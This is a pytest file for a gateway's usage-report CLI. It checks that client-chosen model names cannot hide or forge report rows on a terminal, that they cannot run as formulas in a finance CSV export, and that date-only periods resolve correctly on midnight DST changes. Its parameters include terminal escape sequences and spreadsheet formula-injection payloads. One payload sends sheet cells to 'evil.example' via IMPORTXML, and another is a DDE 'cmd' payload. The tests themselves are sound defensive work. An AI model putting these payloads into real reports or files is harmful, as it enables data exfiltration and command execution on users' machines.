"""Usage reports as the finance and platform teams read them, reviewed again: what a
client chose to call its model cannot rewrite the report on the operator's screen nor
run in the finance team's spreadsheet, and a date alone is its day's start wherever the
clocks change at midnight."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from datetime import date, datetime, timedelta

import orjson
import pytest

from extproc.cli import main
from extproc.config import GatewayConfig
from extproc.runtime import Services
from extproc.store.connection import connect
from extproc.store.embedded import EmbeddedValkey
from extproc.store.usage import UsageStore
from extproc.store.usage_writer import UsageWriter
from extproc.telemetry.metrics import GatewayMetrics
from extproc.testing import (
    processor_for,
    request_body,
    request_headers,
    response_body,
    response_headers,
    run_stream,
)
from tests.unit.conftest import MemoryLog
from tests.unit.test_usage_report_finance import CLI_PREFIX, key_usage, store_url, write_entries

__all__ = ["store_url"]

ANTHROPIC_KEY = {"x-api-key": "team1-key"}


@pytest.fixture
async def writer(valkey: EmbeddedValkey) -> AsyncIterator[UsageWriter]:
    """The rollups a gateway writes to the store the CLI reads (config/gateway.yaml's)."""
    client = connect(valkey.url, 2.0)
    await client.flushdb()
    yield UsageWriter(UsageStore(client, CLI_PREFIX, 30), on_error=lambda: None)
    await client.aclose()


async def ask_messages(config: GatewayConfig, writer: UsageWriter, model: str) -> None:
    """A key holder's Anthropic Messages call for ``model``, answered and rolled up."""
    gateway = processor_for(config, Services(GatewayMetrics(), MemoryLog(), usage_writer=writer))
    body = {"model": model, "max_tokens": 50, "messages": [{"role": "user", "content": "hi"}]}
    answer = {
        "id": "msg_1", "type": "message", "role": "assistant", "model": model,
        "content": [{"type": "text", "text": "hello"}], "stop_reason": "end_turn",
        "usage": {"input_tokens": 2_000_000, "output_tokens": 7},
    }  # fmt: skip
    await run_stream(
        gateway,
        [
            request_headers("/v1/messages", headers=ANTHROPIC_KEY),
            request_body(orjson.dumps(body)),
            response_headers(200, {"content-type": "application/json"}),
            response_body(orjson.dumps(answer)),
        ],
    )
    assert await writer.flush() is True


# Carriage return, erase the line, cursor up, erase that line too: on a terminal the row
# vanished, and the one above it with it. Then a line break and a fake TOTAL line.
HIDING = "claude-x\r\x1b[2K\x1b[1A\x1b[2K"
FORGING = "claude-y\nTOTAL 1 0.00"


@pytest.mark.parametrize("model", [HIDING, FORGING, "claude-\u202edcba"])
async def test_a_model_name_a_client_chose_shows_in_the_table_and_does_nothing(
    config: GatewayConfig,
    writer: UsageWriter,
    store_url: str,
    capsys: pytest.CaptureFixture[str],
    model: str,
) -> None:
    # Any claude-* name goes to Anthropic (model_prefixes), so any key holder names a row
    # of the report. Printed as written, its control characters acted on the operator's
    # terminal: the row could erase itself (a team's $6 out of sight, the TOTAL above
    # the rows on screen) or print a line reading as the TOTAL.
    await ask_messages(config, writer, model)

    code = await asyncio.to_thread(main, ["usage", "report", "--by", "model"])

    table = capsys.readouterr().out
    assert code == 0
    shown = model.translate({0x0D: "\\r", 0x0A: "\\n", 0x1B: "\\x1b", 0x202E: "\\u202e"})
    _period, headers, row, _rule, total = table.splitlines()
    assert headers.startswith("model ")
    # The row and the TOTAL below it, each with the request's 2,000,007 tokens.
    assert row.startswith(shown + " ") and " 2000007 " in row
    assert total.startswith("TOTAL ") and " 2000007 " in total
    assert not any(char in table for char in "\r\x1b\u202e")

    # Machine formats keep the value exactly, for a billing import to match the log line.
    code = await asyncio.to_thread(main, ["usage", "export", "--by", "model"])
    [exported] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert code == 0
    assert exported["model"] == model
    code = await asyncio.to_thread(main, ["usage", "export", "--by", "model", "--format", "json"])
    assert orjson.loads(capsys.readouterr().out)["rows"][0]["model"] == model


async def ask_chat_of_anthropic(config: GatewayConfig, writer: UsageWriter, model: str) -> None:
    """An OpenAI client's call on /anthropic, whose provider serves any model name."""
    gateway = processor_for(config, Services(GatewayMetrics(), MemoryLog(), usage_writer=writer))
    body = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
    answer = {
        "id": "msg_1", "type": "message", "role": "assistant", "model": model,
        "content": [{"type": "text", "text": "hello"}], "stop_reason": "end_turn",
        "usage": {"input_tokens": 12, "output_tokens": 7},
    }  # fmt: skip
    await run_stream(
        gateway,
        [
            request_headers(
                "/anthropic/chat/completions", headers={"authorization": "Bearer team1-key"}
            ),
            request_body(orjson.dumps(body)),
            response_headers(200, {"content-type": "application/json"}),
            response_body(orjson.dumps(answer)),
        ],
    )
    assert await writer.flush() is True


@pytest.mark.parametrize(
    "model",
    [
        # Google Sheets runs it on import: the bill's other cells go to the URL.
        '=IMPORTXML(CONCAT("https://evil.example/?",A2:H99),"//a")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        # The mark itself: doubled, so that dropping one mark always gives the value back.
        "'=1+1",
    ],
)
async def test_a_model_name_a_client_chose_is_no_formula_in_the_finance_csv(
    config: GatewayConfig,
    writer: UsageWriter,
    store_url: str,
    capsys: pytest.CaptureFixture[str],
    model: str,
) -> None:
    # A key holder names its model on a route whose provider takes any name; the row
    # lands in the CSV the finance team opens in a spreadsheet, which ran the cell.
    await ask_chat_of_anthropic(config, writer, model)

    code = await asyncio.to_thread(main, ["usage", "export", "--by", "model,group"])

    exported = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert code == 0
    assert [(row["model"], row["group_id"], row["requests"]) for row in exported] == [
        ("'" + model, "engineering", "1")
    ]
    # JSON, for programs, keeps it as the log line has it.
    code = await asyncio.to_thread(main, ["usage", "export", "--by", "model", "--format", "json"])
    assert orjson.loads(capsys.readouterr().out)["rows"][0]["model"] == model


@pytest.mark.parametrize(
    ("zone", "day", "start", "end"),
    [
        # Chile springs forward at midnight: 6 Sep 2026 begins at 01:00 (-03), 04:00 UTC,
        # and has 23 hours; its 00:00 never happens.
        (
            "America/Santiago",
            "2026-09-06",
            "2026-09-06T04:00:00+00:00",
            "2026-09-07T03:00:00+00:00",
        ),
        # Cuba falls back from 01:00 to 00:00: 1 Nov 2026 begins at the first 00:00
        # (-04), 04:00 UTC, and has 25 hours; its 00:00 happens twice.
        ("America/Havana", "2026-11-01", "2026-11-01T04:00:00+00:00", "2026-11-02T05:00:00+00:00"),
    ],
)
@pytest.mark.usefixtures("rollups_kept_at_fixed_dates")
def test_a_date_alone_is_the_start_of_its_day_where_the_clocks_change_at_midnight(
    store_url: str,
    capsys: pytest.CaptureFixture[str],
    zone: str,
    day: str,
    start: str,
    end: str,
) -> None:
    # `--day D` answered, but `--from D --to D+1` (the same day, as docs/chargeback.md
    # says a date alone reads) was refused as a time that does not exist or happens
    # twice, so a billing job giving every period as --from/--to failed on these days.
    first, last = datetime.fromisoformat(start), datetime.fromisoformat(end)
    asyncio.run(write_entries(store_url, [
        key_usage((first - timedelta(seconds=1)).timestamp(), 1),
        key_usage(first.timestamp(), 1),
        key_usage((last - timedelta(seconds=1)).timestamp(), 1),
        key_usage(last.timestamp(), 1),
    ]))  # fmt: skip
    following = (date.fromisoformat(day) + timedelta(days=1)).isoformat()
    documents = []
    for period in (["--day", day], ["--from", day, "--to", following]):
        code = main(["usage", "report", *period, "--time-zone", zone, "--format", "json"])
        captured = capsys.readouterr()
        assert code == 0, captured.err
        documents.append(orjson.loads(captured.out))

    assert documents[0] == documents[1]
    assert (documents[1]["from"], documents[1]["to"]) == (start, end)
    assert documents[1]["totals"]["requests"] == 2
